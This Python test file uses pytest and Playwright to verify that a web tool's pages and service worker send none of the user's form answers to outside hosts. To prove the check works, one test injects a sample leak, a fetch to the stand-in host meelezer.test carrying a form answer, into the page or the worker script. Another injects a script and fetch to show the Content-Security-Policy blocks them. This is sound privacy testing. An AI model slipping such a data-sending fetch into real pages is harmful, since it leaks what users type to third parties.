"""What the reader fills in leaves the device in no request, of the page or of the worker.

A page's Content-Security-Policy does not bind its worker. So every context here has a proxy for whatever is not
the site's own server: a request to anyone else, from anywhere, ends up in that proxy's log.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from .check_page import PAGES, CheckPage, a_case, knows_its_pages
from .site_server import SiteServer, preceded_by, without_hash
from .warm import FOLLOW


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[SiteServer]:
    """Everything that is not the site's own server."""
    server = SiteServer(tmp_path)
    server.start()
    yield server
    server.stop()


@pytest.fixture
def watched(new_context: Callable[..., BrowserContext], elsewhere: SiteServer) -> Page:
    """A tab whose requests to others are logged by `elsewhere`."""
    proxy = {"server": elsewhere.url, "bypass": "127.0.0.1"}
    return new_context(proxy=proxy, keeps_copy=True).new_page()


def test_a_whole_session_asks_only_the_site_and_tells_it_nothing(
    watched: Page, site: SiteServer, elsewhere: SiteServer
) -> None:
    seen: list[str] = []
    watched.context.on("request", lambda request: seen.append(request.url))
    checks = [CheckPage(watched, site.url, slug) for slug in PAGES]

    def answer(check: CheckPage) -> None:
        case = a_case(check.slug)
        check.click(case["antwoorden"])
        check.expect_outcome(case["verwacht"]["uitkomst"])

    checks[0].open()
    knows_its_pages(watched)
    answer(checks[0])
    for check in checks[1:]:
        watched.evaluate(FOLLOW, check.url)
        answer(check)
    # the copy of the site is a part of it, and so is another visit, from that copy
    expect(watched.locator("html")).to_have_attribute("data-offline", "ready")
    answer(checks[0].open())
    watched.wait_for_load_state("networkidle")
    # the log is that of page and worker
    asked = {without_hash(request.name) for request in site.log}
    assert {"check.js", "check-worker.js", "pyodide.asm.wasm.zst", "service-worker.js"} <= asked
    # nobody else was asked anything
    assert elsewhere.log == []
    assert [url for url in seen if not url.startswith((site.url + "/", "about:", "data:", "blob:"))] == []
    # and the site was told nothing: plain GETs of files, without query and without a word of the answers
    assert {request.method for request in site.log} == {"GET"}
    assert [request.target for request in site.log if "?" in request.target] == []
    words = {f"{question}=" for slug in PAGES for question in a_case(slug)["antwoorden"]}
    assert [request for request in site.log if any(word in request.headers for word in words)] == []
    assert watched.context.cookies() == []
    kept = watched.evaluate(
        "async () => (await Promise.all((await caches.keys()).map(async (name) => (await caches.open(name)).keys())))"
        ".flat().map((request) => request.url)"
    )
    assert kept
    assert [url for url in kept if "?" in url or "#" in url] == []
    assert watched.evaluate("Object.keys(sessionStorage)") == []


@pytest.mark.parametrize("where", ["page", "worker"])
def test_the_log_would_show_a_request_to_someone_else(
    new_context: Callable[..., BrowserContext], elsewhere: SiteServer, site: SiteServer, where: str
) -> None:
    # a test of the test above
    proxy = {"server": elsewhere.url, "bypass": "127.0.0.1"}
    page = new_context(proxy=proxy, bypass_csp=True).new_page()
    leak = "fetch('http://meelezer.test/?aanleiding=melding').catch(() => {});\n"
    check = CheckPage(page, site.url, "verzuim")
    if where == "worker":
        site.break_("*/check-worker.js", preceded_by(leak))
        check.open().choice("aanleiding", "melding").click()
    else:
        check.open()
        page.evaluate("async () => { await fetch('http://meelezer.test/?aanleiding=melding').catch(() => {}); }")
        check.choice("aanleiding", "melding").click()
    check.wait_for_reply()
    assert [request.target for request in elsewhere.log] == ["http://meelezer.test/?aanleiding=melding"]


def test_the_page_forbids_scripts_and_requests_of_others(page: Page, site: SiteServer) -> None:
    # the browser itself says what the page's policy lets through
    CheckPage(page, site.url, "verzuim").open()
    page.evaluate(
        """() => { window.broken = [];
          addEventListener('securitypolicyviolation', (e) => {
            window.broken.push(e.effectiveDirective);
            document.body.setAttribute('data-broken', window.broken.sort().join(' '));
          });
          const script = document.createElement('script');
          script.textContent = 'window.leaked = true';
          document.body.append(script);
          fetch('http://meelezer.test/').catch(() => {});
        }"""
    )
    expect(page.locator("body")).to_have_attribute("data-broken", "connect-src script-src-elem")
    assert page.evaluate("window.leaked") is None


def test_the_policy_of_every_page_is_the_same_and_allows_wasm_and_no_eval(site: SiteServer) -> None:
    policies = set()
    for file in site.folder.rglob("*.html"):
        if file.name == "404.html":
            continue
        html = file.read_text(encoding="utf-8")
        assert "'wasm-unsafe-eval'" in html, file
        assert "'unsafe-eval'" not in html, file
        (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', html)
        # but for its own scripts
        policies.add(re.sub(r" 'sha256-[^']*'", "", policy))
    assert len(policies) == 1, policies
